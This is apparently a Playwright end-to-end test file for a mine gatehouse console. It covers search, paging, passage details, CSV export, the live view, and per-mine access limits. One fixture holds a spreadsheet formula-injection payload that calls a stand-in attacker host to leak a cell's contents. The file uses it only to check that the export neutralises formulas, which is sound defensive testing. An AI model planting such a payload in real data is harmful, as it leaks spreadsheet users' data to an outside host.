"""Passages across booths in a real browser: search, pages, the passage in full, exports, the
live view; a mine supervisor never sees another mine's passages, by any URL."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from gatehouse.core.models import Outcome, Role
from gatehouse.core.passage import Passage
from gatehouse.core.reasons import Reason
from gatehouse.hub.console.accounts import Accounts
from gatehouse.hub.console.search import PAGE_SIZE
from gatehouse.hub.service import Hub
from gatehouse.store.audit import AuditKind
from tests.factories import make_passage
from tests.hub.console.conftest import log_in, submit
from tests.hub.console.seed import enrolled_booth, upload

START = datetime(2024, 3, 1, 6, 0, tzinfo=UTC)  # 14:00 at the mines
EVIL_NAME = '=HYPERLINK("http://attacker.invalid/?x="&A1,"点我")'
FEVER = Reason(
    "temperature_high",
    Outcome.TURN_AWAY,
    "Fever",
    "发热",
    {"rule_id": "R-TEMP-1", "pack_version": "2024.3"},
)


class Seeded:
    """What the north and south booths uploaded."""

    def __init__(self, north: list[Passage], south: list[Passage]) -> None:
        self.north, self.south = north, south
        self.fever = north[-3]
        self.visitor = north[-2]
        self.truck = north[-1]


@pytest.fixture
def seeded(hub: Hub, hub_url: str, accounts: Accounts, tmp_path: Path) -> Seeded:
    north = [
        make_passage(booth_id="north-gate-1", decided_at=START + timedelta(minutes=n))
        for n in range(PAGE_SIZE + 2)
    ]
    late = START + timedelta(days=1)
    north += [
        make_passage(
            booth_id="north-gate-1",
            decided_at=late,
            outcome=Outcome.TURN_AWAY,
            reasons=(FEVER,),
            holder_name=EVIL_NAME,
        ),
        make_passage(
            booth_id="north-gate-1",
            decided_at=late + timedelta(minutes=1),
            outcome=Outcome.REFER,
            role=Role.VISITOR.value,
            holder_name="李四",
            id_masked="150602********0021",
        ),
        make_passage(
            booth_id="north-gate-1",
            decided_at=late + timedelta(minutes=2),
            role="vehicle",
            holder_name="蒙K12345",
            id_masked=None,
            pass_id=None,
        ),
    ]
    override = {"passage_id": north[-3].passage_id, "reason": "contact thermometer 36.6"}
    upload(
        enrolled_booth(hub, hub_url, "north-gate-1", "北矿 North"),
        tmp_path,
        north,
        [(AuditKind.OVERRIDE, override)],
    )
    south = [
        make_passage(
            booth_id="south-gate-1",
            decided_at=late,
            outcome=Outcome.TURN_AWAY,
            holder_name="South Person",
        )
    ]
    upload(enrolled_booth(hub, hub_url, "south-gate-1", "南矿 South"), tmp_path, south)
    return Seeded(north, south)


def _rows(page: Page) -> list[str]:
    ids: list[str] = page.locator("#passages tbody tr[data-passage]").evaluate_all(
        "rows => rows.map(r => r.dataset.passage)"
    )
    return ids


def test_the_office_pages_through_every_booths_passages_newest_first(
    page: Page, hub_url: str, seeded: Seeded
) -> None:
    log_in(page, hub_url, "staff")
    page.click("#nav-passages")
    expect(page.locator("#passages tbody tr[data-passage]")).to_have_count(PAGE_SIZE)
    first = _rows(page)
    assert first[:2] == [seeded.truck.passage_id, seeded.visitor.passage_id]
    submit(page, "#next-page")
    expect(page.locator("#passages tbody tr[data-passage]")).to_have_count(6)
    everyone = {p.passage_id for p in seeded.north + seeded.south}
    assert set(first) | set(_rows(page)) == everyone
    assert not set(first) & set(_rows(page))


@pytest.mark.parametrize(
    ("field", "value", "expected"),
    [
        ("#person", "150602199001010021", "visitor"),  # a full ID number, by its masked form
        ("#person", "李", "visitor"),
        ("#reason", "temperature_high", "fever"),
        ("#outcome", "REFER", "visitor"),
        ("#role", "vehicle", "truck"),
    ],
)
def test_the_search_finds_by_person_reason_outcome_and_role(
    page: Page, hub_url: str, seeded: Seeded, field: str, value: str, expected: str
) -> None:
    log_in(page, hub_url, "admin")
    page.goto(f"{hub_url}/console/passages")
    if field in ("#outcome", "#role"):
        page.select_option(field, value)
    else:
        page.fill(field, value)
    submit(page, "#search")
    expect(page.locator("#passages tbody tr[data-passage]")).to_have_count(1)
    assert _rows(page) == [getattr(seeded, expected).passage_id]


def test_the_office_narrows_the_search_to_one_mine(
    page: Page, hub_url: str, seeded: Seeded
) -> None:
    log_in(page, hub_url, "staff")
    page.goto(f"{hub_url}/console/passages?outcome=TURN_AWAY")
    page.select_option("#mine", "南矿 South")
    submit(page, "#search")
    assert _rows(page) == [seeded.south[0].passage_id]
    expect(page.locator("#mine")).to_have_value("南矿 South")  # the choice stays on the form


def test_dates_are_the_mines_local_days_and_a_bad_one_is_named(
    page: Page, hub_url: str, seeded: Seeded
) -> None:
    log_in(page, hub_url, "admin")
    page.goto(f"{hub_url}/console/passages?since=2024-03-02&until=2024-03-02&booth=north-gate-1")
    expect(page.locator("#passages tbody tr[data-passage]")).to_have_count(3)
    page.goto(f"{hub_url}/console/passages?since=2024-13-40")
    expect(page.locator("#error")).to_have_text("日期格式应为 YYYY-MM-DD:2024-13-40")


def test_the_passage_in_full_shows_its_rule_and_the_override(
    page: Page, hub_url: str, seeded: Seeded
) -> None:
    log_in(page, hub_url, "staff")
    page.goto(f"{hub_url}/console/passages?outcome=TURN_AWAY&booth=north-gate-1")
    submit(page, f'tr[data-passage="{seeded.fever.passage_id}"] a')
    reasons = page.locator("#reasons tbody")
    expect(reasons).to_contain_text("temperature_high")
    expect(reasons).to_contain_text("R-TEMP-1")
    expect(reasons).to_contain_text("2024.3")
    expect(page.locator("#events tbody")).to_contain_text("contact thermometer 36.6")
    expect(page.locator("#passage")).to_contain_text("2024-03-02 14:00:00")


def test_the_csv_export_is_the_search_with_formulas_neutralised(
    page: Page, hub_url: str, seeded: Seeded
) -> None:
    log_in(page, hub_url, "staff")
    page.goto(f"{hub_url}/console/passages?outcome=TURN_AWAY")
    with page.expect_download() as download:
        page.click("#export-csv")
    text = Path(download.value.path()).read_text(encoding="utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert sorted(r["岗亭 Booth"] for r in rows) == ["north-gate-1", "south-gate-1"]
    names = {r["姓名 Name"] for r in rows}
    assert "South Person" in names
    assert EVIL_NAME not in names and "'" + EVIL_NAME in names


def test_a_supervisor_never_sees_another_mines_passages(
    page: Page, hub_url: str, seeded: Seeded
) -> None:
    log_in(page, hub_url, "north")
    page.click("#nav-passages")
    expect(page.locator("#passages tbody tr[data-passage]")).to_have_count(PAGE_SIZE)
    assert seeded.south[0].passage_id not in _rows(page)
    expect(page.locator("#mine")).to_have_count(0)  # the office's mine filter is not theirs
    page.goto(f"{hub_url}/console/passages?booth=south-gate-1")
    expect(page.locator("#no-passages")).to_be_visible()
    page.goto(f"{hub_url}/console/passages?mine=南矿 South&outcome=TURN_AWAY")
    assert _rows(page) == [seeded.fever.passage_id]
    reply = page.request.get(f"{hub_url}/console/passages/{seeded.south[0].passage_id}")
    assert reply.status == 404
    assert "South Person" not in reply.text()
    page.goto(f"{hub_url}/console/passages/{seeded.fever.passage_id}")
    expect(page.locator("#reasons")).to_contain_text("R-TEMP-1")
    exported = page.request.get(f"{hub_url}/console/export.csv?booth=south-gate-1")
    assert exported.status == 200
    assert "South Person" not in exported.text()
    page.goto(f"{hub_url}/console/live")
    expect(page.locator("#live")).to_contain_text("李四")
    expect(page.locator("#live")).not_to_contain_text("South Person")


def test_the_live_view_lists_the_latest_turn_aways_and_referrals_and_refreshes(
    page: Page, hub_url: str, seeded: Seeded
) -> None:
    log_in(page, hub_url, "admin")
    page.click("#nav-live")
    rows = page.locator("#live tbody tr[data-passage]")
    expect(rows).to_have_count(3)
    expect(rows.first).to_contain_text("李四")
    expect(page.locator("#live")).to_contain_text("South Person")
    refresh = page.locator('meta[http-equiv="refresh"]').get_attribute("content")
    assert refresh is not None and int(refresh) > 0
